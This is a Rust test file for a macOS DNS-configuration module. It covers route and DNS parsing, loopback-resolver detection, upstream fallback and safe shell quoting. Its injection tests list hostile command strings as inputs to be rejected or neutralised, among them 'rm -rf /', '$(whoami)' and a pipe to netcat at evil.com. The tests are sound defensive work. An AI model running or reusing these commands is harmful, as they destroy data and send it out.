//! The DNS settings of the system.
use mhost::dns::platform::script::{
    build_disable_script, build_osascript_command, shell_single_quote, DisableScriptInputs,
};
use mhost::dns::platform::{
    any_local_resolver, parse_dns_servers, parse_hardware_port, parse_route_interface,
    select_upstream, tier3_fallback, validate_interface_name, UpstreamTier,
};
use mhost::net::is_local_resolver;

#[test]
fn test_parse_route_interface_en0() {
    let output = r#"
   route to: default
destination: default
   mask: default
gateway: 192.168.1.1
  interface: en0
  flags: <UP,GATEWAY,DONE,STATIC,PRCLONING>
 recvpipe  sendpipe  ssthresh  rtt,msec    rttvar  hopcount      mtu     expire
   0         0         0         0         0         0      1500         0
"#;
    assert_eq!(parse_route_interface(output), Some("en0".to_string()));
}

#[test]
fn test_parse_route_interface_missing() {
    let output = "no interface here";
    assert_eq!(parse_route_interface(output), None);
}

#[test]
fn test_parse_hardware_port_wifi() {
    let output = r#"
Hardware Port: Wi-Fi
Device: en0
Ethernet Address: aa:bb:cc:dd:ee:ff

Hardware Port: Ethernet
Device: en1
Ethernet Address: 11:22:33:44:55:66
"#;
    assert_eq!(
        parse_hardware_port(output, "en0"),
        Some("Wi-Fi".to_string())
    );
}

#[test]
fn test_parse_hardware_port_ethernet() {
    let output = r#"
Hardware Port: Wi-Fi
Device: en0
Ethernet Address: aa:bb:cc:dd:ee:ff

Hardware Port: Ethernet
Device: en1
Ethernet Address: 11:22:33:44:55:66
"#;
    assert_eq!(
        parse_hardware_port(output, "en1"),
        Some("Ethernet".to_string())
    );
}

#[test]
fn test_parse_hardware_port_not_found() {
    let output = r#"
Hardware Port: Wi-Fi
Device: en0
"#;
    assert_eq!(parse_hardware_port(output, "en99"), None);
}

#[test]
fn test_parse_dns_servers_empty() {
    let cases = vec![
        ("none_set", "There aren't any DNS Servers set on Wi-Fi."),
        ("empty_string", ""),
        ("empty_keyword", "Empty"),
    ];

    for (name, input) in cases {
        let result = parse_dns_servers(input).unwrap();
        assert!(result.is_empty(), "case: {}", name);
    }
}

#[test]
fn test_parse_dns_servers_single() {
    let output = "8.8.8.8\n";
    let result = parse_dns_servers(output).unwrap();
    assert_eq!(result, vec!["8.8.8.8"]);
}

#[test]
fn test_parse_dns_servers_multiple() {
    let output = "8.8.8.8\n8.8.4.4\n1.1.1.1\n";
    let result = parse_dns_servers(output).unwrap();
    assert_eq!(result, vec!["8.8.8.8", "8.8.4.4", "1.1.1.1"]);
}

#[test]
fn test_parse_dns_servers_with_whitespace() {
    let output = "  8.8.8.8  \n\n  1.1.1.1  \n";
    let result = parse_dns_servers(output).unwrap();
    assert_eq!(result, vec!["8.8.8.8", "1.1.1.1"]);
}

#[test]
fn test_is_local_resolver_ipv4() {
    assert!(is_local_resolver("127.0.0.1"));
    assert!(is_local_resolver("127.5.5.5"));
    assert!(is_local_resolver("127.255.255.254"));
    assert!(is_local_resolver("0.0.0.0"));
    assert!(!is_local_resolver("8.8.8.8"));
    assert!(!is_local_resolver("1.1.1.1"));
    assert!(!is_local_resolver("192.168.1.1"));
    assert!(!is_local_resolver("10.0.0.1"));
}

#[test]
fn test_is_local_resolver_ipv6() {
    assert!(is_local_resolver("::1"));
    assert!(is_local_resolver("::"));
    assert!(!is_local_resolver("2001:db8::1"));
    assert!(!is_local_resolver("fe80::1"));
}

#[test]
fn test_is_local_resolver_with_port() {
    assert!(is_local_resolver("127.0.0.1:53"));
    assert!(is_local_resolver("127.0.0.1:1053"));
    assert!(is_local_resolver("127.0.0.1:5353"));
    assert!(!is_local_resolver("8.8.8.8:53"));
    assert!(is_local_resolver("[::1]:53"));
    assert!(is_local_resolver("[::]:53"));
    assert!(!is_local_resolver("[2001:db8::1]:53"));
}

#[test]
fn test_is_local_resolver_garbage_input() {
    assert!(!is_local_resolver(""));
    assert!(!is_local_resolver("not-an-ip"));
    assert!(!is_local_resolver("..."));
    assert!(!is_local_resolver("evil.example.com"));
}

#[test]
fn test_parse_dns_servers_then_filter_loopback() {
    let raw = parse_dns_servers("127.0.0.1\n1.1.1.1\n").unwrap();
    let filtered: Vec<String> = raw.into_iter().filter(|s| !is_local_resolver(s)).collect();
    assert_eq!(filtered, vec!["1.1.1.1".to_string()]);

    let all_loopback = parse_dns_servers("127.0.0.1\n0.0.0.0\n").unwrap();
    let filtered_empty: Vec<String> = all_loopback
        .into_iter()
        .filter(|s| !is_local_resolver(s))
        .collect();
    assert!(filtered_empty.is_empty());
}

#[test]
fn test_select_upstream_tier1_external_returns_tier1() {
    let (result, source) =
        select_upstream(vec!["8.8.8.8".to_string()], vec!["192.168.1.1".to_string()]);
    assert_eq!(result, vec!["8.8.8.8".to_string()]);
    assert_eq!(source, UpstreamTier::Networksetup);
}

#[test]
fn test_select_upstream_tier1_loopback_falls_to_tier2() {
    let (result, source) = select_upstream(
        vec!["127.0.0.1".to_string()],
        vec!["192.168.1.1".to_string()],
    );
    assert_eq!(result, vec!["192.168.1.1".to_string()]);
    assert_eq!(source, UpstreamTier::Ipconfig);
}

#[test]
fn test_select_upstream_tier2_loopback_falls_to_tier3() {
    let (result, source) =
        select_upstream(vec!["127.0.0.1".to_string()], vec!["0.0.0.0".to_string()]);
    assert_eq!(result, tier3_fallback());
    assert_eq!(source, UpstreamTier::Public);
}

#[test]
fn test_select_upstream_tier1_partial_loopback_keeps_external() {
    let (result, source) =
        select_upstream(vec!["127.0.0.1".to_string(), "8.8.8.8".to_string()], vec![]);
    assert_eq!(result, vec!["8.8.8.8".to_string()]);
    assert_eq!(source, UpstreamTier::Networksetup);
}

#[test]
fn test_select_upstream_both_empty_returns_tier3() {
    let (result, source) = select_upstream(vec![], vec![]);
    assert_eq!(result, tier3_fallback());
    assert_eq!(source, UpstreamTier::Public);
}

#[test]
fn test_select_upstream_tier1_empty_falls_to_tier2() {
    let (result, source) =
        select_upstream(vec![], vec!["10.0.0.1".to_string(), "10.0.0.2".to_string()]);
    assert_eq!(result, vec!["10.0.0.1".to_string(), "10.0.0.2".to_string()]);
    assert_eq!(source, UpstreamTier::Ipconfig);
}

#[test]
fn test_select_upstream_tier2_partial_loopback_keeps_external() {
    let (result, source) = select_upstream(
        vec![],
        vec!["127.0.0.1".to_string(), "192.168.0.1".to_string()],
    );
    assert_eq!(result, vec!["192.168.0.1".to_string()]);
    assert_eq!(source, UpstreamTier::Ipconfig);
}

#[test]
fn test_validate_interface_name_normal() {
    assert!(validate_interface_name("en0").is_ok());
    assert!(validate_interface_name("Wi-Fi").is_ok());
    assert!(validate_interface_name("USB 10/100/1000 LAN").is_ok());
    assert!(validate_interface_name("Thunderbolt Ethernet").is_ok());
    assert!(validate_interface_name("iPhone USB").is_ok());
}

#[test]
fn test_validate_interface_name_injection() {
    let malicious = vec![
        "en0;evil",
        "Wi-Fi\";rm -rf /",
        "en0$(whoami)",
        "en0`id`",
        "en0 & rm -rf /",
        "en0 | nc evil.com 1234",
        "en0 > /etc/hosts",
        "en0\n rm -rf /",
        "en0\\rm -rf /",
        "en0!history",
        "en0'evil'",
        "en0(rm)",
        "en0{rm,}",
        "en0[rm]",
        "en0?rm",
        "en0*rm",
        "en0$PATH",
        "en0%",
        "en0#comment",
        "",
    ];
    for name in &malicious {
        let result = validate_interface_name(name);
        assert!(result.is_err());
    }
}

#[test]
fn test_parse_hardware_port_with_injection_chars() {
    let evil_output = r#"
Hardware Port: Wi-Fi"; rm -rf / #
Device: en0
Ethernet Address: aa:bb:cc:dd:ee:ff
"#;
    let port = parse_hardware_port(evil_output, "en0");
    assert_eq!(
        port,
        Some(r#"Wi-Fi"; rm -rf / #"#.to_string())
    );
    assert!(validate_interface_name(&port.unwrap()).is_err());
}

#[test]
fn test_shell_single_quote_basic() {
    assert_eq!(shell_single_quote("hello"), "'hello'");
    assert_eq!(shell_single_quote("/usr/bin/foo"), "'/usr/bin/foo'");
    assert_eq!(shell_single_quote(""), "''");
}

#[test]
fn test_shell_single_quote_with_apostrophe() {
    assert_eq!(shell_single_quote("can't"), "'can'\\''t'");
    assert_eq!(
        shell_single_quote("/foo/'bar'/baz"),
        "'/foo/'\\''bar'\\''/baz'"
    );
}

#[test]
fn test_shell_single_quote_injection_safe() {
    let evil_inputs = [
        "; rm -rf /",
        "$(whoami)",
        "`id`",
        "$PATH",
        "foo && bar",
        "foo | bar",
        "foo > /etc/passwd",
        "foo\nbar",
        "\\x00\\x01",
    ];
    for input in evil_inputs {
        let quoted = shell_single_quote(input);
        assert!(quoted.starts_with('\'') && quoted.ends_with('\''));
        let mut s = quoted.as_str();
        assert!(s.starts_with('\'') && s.ends_with('\''));
        s = &s[1..s.len() - 1];
        let restored = s.replace(r"'\''", "'");
        assert_eq!(restored, input, "quoting for {input:?} must round-trip");
    }
}

#[test]
fn test_post_restore_verify_helper_detects_loopback() {
    assert!(!any_local_resolver(&[]));
    assert!(!any_local_resolver(&["8.8.8.8".to_string()]));
    assert!(!any_local_resolver(&[
        "8.8.8.8".to_string(),
        "1.1.1.1".to_string()
    ]));

    assert!(any_local_resolver(&["127.0.0.1".to_string()]));
    assert!(any_local_resolver(&["::1".to_string()]));
    assert!(any_local_resolver(&["0.0.0.0".to_string()]));
    assert!(any_local_resolver(&[
        "127.0.0.1".to_string(),
        "8.8.8.8".to_string()
    ]));
    assert!(any_local_resolver(&[
        "127.0.0.1:53".to_string(),
        "8.8.8.8".to_string()
    ]));
}

#[test]
fn test_networksetup_get_dns_filter_pipeline() {
    let raw = parse_dns_servers("127.0.0.1\n1.1.1.1\n").unwrap();
    let filtered: Vec<String> = raw.into_iter().filter(|s| !is_local_resolver(s)).collect();
    assert_eq!(filtered, vec!["1.1.1.1".to_string()]);

    let raw = parse_dns_servers("127.0.0.1\n::1\n0.0.0.0\n").unwrap();
    let filtered: Vec<String> = raw.into_iter().filter(|s| !is_local_resolver(s)).collect();
    assert!(filtered.is_empty());

    let raw = parse_dns_servers("8.8.8.8\n1.1.1.1\n").unwrap();
    let filtered: Vec<String> = raw.into_iter().filter(|s| !is_local_resolver(s)).collect();
    assert_eq!(filtered, vec!["8.8.8.8".to_string(), "1.1.1.1".to_string()]);
}

#[test]
fn test_build_osascript_command_includes_nonce() {
    let cmd = build_osascript_command("/tmp/mhost-script.sh", "abc123def");
    assert!(cmd.contains("abc123def"));
    assert!(cmd.contains("/tmp/mhost-script.sh"));
    assert!(cmd.contains("with administrator privileges"));
}

#[test]
fn test_build_osascript_command_unique_per_nonce() {
    let cmd1 = build_osascript_command("/tmp/x.sh", "nonce-aaa");
    let cmd2 = build_osascript_command("/tmp/x.sh", "nonce-bbb");
    assert_ne!(cmd1, cmd2);
}

#[test]
fn test_build_osascript_command_escapes_quotes_in_path() {
    let cmd = build_osascript_command("/tmp/has\"quote.sh", "abc");
    assert!(cmd.contains("has\\\"quote.sh"));
    let original_quote_count = "/tmp/has\"quote.sh".matches('"').count();
    let escaped_quote_count = cmd.matches("\\\"").count();
    assert_eq!(original_quote_count, escaped_quote_count);
}

#[test]
fn test_build_osascript_command_escapes_backslash_in_path() {
    let cmd = build_osascript_command("/tmp/has\\back.sh", "abc");
    assert!(cmd.contains("has\\\\back.sh"));
}

#[test]
fn test_build_disable_script_no_pid_no_kill_line() {
    let script = build_disable_script(&DisableScriptInputs {
        interface: "Wi-Fi".to_string(),
        target: "Empty".to_string(),
        proxy_pid: None,
        expected_basename: None,
    });
    assert!(!script.contains("kill -9"));
    assert!(script.contains("networksetup -setdnsservers 'Wi-Fi' 'Empty'"));
    assert!(script.starts_with("networksetup"));
}

#[test]
fn test_build_disable_script_some_pid_with_comm_check() {
    let script = build_disable_script(&DisableScriptInputs {
        interface: "Wi-Fi".to_string(),
        target: "8.8.8.8 1.1.1.1".to_string(),
        proxy_pid: Some(12345),
        expected_basename: Some("mhost-dns-proxy".to_string()),
    });
    assert!(script.contains("EXPECTED='mhost-dns-proxy'"));
    assert!(script.contains("ps -p '12345' -o comm="));
    assert!(
        script
            .contains("if [ \"$ACTUAL\" = \"$EXPECTED\" ]; then kill -9 12345 2>/dev/null; fi")
    );
    assert!(script.contains("\ntrue\n"));
    let kill_pos = script.find("kill -9").expect("kill line");
    let ns_pos = script.find("networksetup").expect("networksetup");
    assert!(kill_pos < ns_pos);
    assert!(script.contains("networksetup -setdnsservers 'Wi-Fi' '8.8.8.8 1.1.1.1'"));
}

#[test]
fn test_build_disable_script_legacy_pid_file_no_comm_check() {
    let script = build_disable_script(&DisableScriptInputs {
        interface: "Wi-Fi".to_string(),
        target: "Empty".to_string(),
        proxy_pid: Some(12345),
        expected_basename: None,
    });
    assert!(!script.contains("EXPECTED="));
    assert!(
        script.contains(
            "echo \"WARNING: skipping #81 comm check for legacy PID file 12345\" >&2"
        )
    );
    assert!(script.contains("kill -9 12345 2>/dev/null"));
    let warn_pos = script.find("WARNING:").expect("WARNING line missing");
    let kill_pos = script.find("kill -9 12345").expect("kill line");
    assert!(warn_pos < kill_pos);
    assert!(script.contains("networksetup -setdnsservers 'Wi-Fi' 'Empty'"));
}

#[test]
fn test_build_disable_script_pid_format_is_decimal() {
    for pid in [0u32, 1, 99999, u32::MAX] {
        let script = build_disable_script(&DisableScriptInputs {
            interface: "Wi-Fi".to_string(),
            target: "Empty".to_string(),
            proxy_pid: Some(pid),
            expected_basename: Some("mhost-dns-proxy".to_string()),
        });
        assert!(script.contains(&format!("ps -p '{pid}' -o comm=")));
        assert!(script.contains(&format!("kill -9 {pid} 2>/dev/null")));
    }
}
